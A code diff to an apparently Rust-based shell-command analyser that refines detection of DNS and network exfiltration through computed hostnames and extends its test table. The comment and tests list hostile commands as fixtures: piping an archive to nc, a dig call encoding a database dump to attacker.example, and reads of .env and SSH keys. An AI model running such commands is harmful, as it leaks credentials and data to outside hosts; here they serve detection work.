@@ -442,24 +442,22 @@ impl Analyser<'_> {
         for nested in &script.substitutions {
             self.script(nested, depth + 1);
         }
-        // A substitution feeding a network name (`dig $(cat secret).evil.com`) sends its output.
+        // A substitution inside a network name (`dig $(cat secret).evil.com`) sends its output.
         for command in &script.commands {
-            let argv: Vec<String> = command.words.iter().map(|w| w.text.clone()).collect();
-            let name = argv.first().map(|a| program_name(a)).unwrap_or_default();
-            if matches!(
-                name.as_str(),
+            let Some(program) = command.words.first() else {
+                continue;
+            };
+            let network = matches!(
+                program_name(&program.text).as_str(),
                 "dig" | "nslookup" | "host" | "ping" | "curl" | "wget"
-            ) && command
-                .words
-                .iter()
-                .skip(1)
-                .any(|w| w.dynamic && w.text.contains('.') && !w.text.starts_with('$'))
-                && !script.substitutions.is_empty()
+            );
+            if network
+                && command.words[1..]
+                    .iter()
+                    .any(|w| !w.inner.is_empty() && w.text.contains('.'))
             {
-                self.push(
-                    Effect::Exfiltration,
-                    format!("{} with a computed address", shown(&argv)),
-                );
+                let line = command.argv().collect::<Vec<_>>().join(" ");
+                self.push(Effect::Exfiltration, format!("{line} with a computed address"));
             }
         }
     }
@@ -3009,6 +3007,7 @@ mod tests {
                 Effect::Exfiltration,
             ),
             ("tar czf - ~/work | nc 198.51.100.4 4444", Effect::Exfiltration),
+            ("dig $(head -c 60 db.sql | base64).x.attacker.example", Effect::Exfiltration),
             ("cat .env", Effect::CredentialAccess),
             ("cat ~/.ssh/id_ed25519", Effect::CredentialAccess),
             ("printenv | grep -i key", Effect::CredentialAccess),
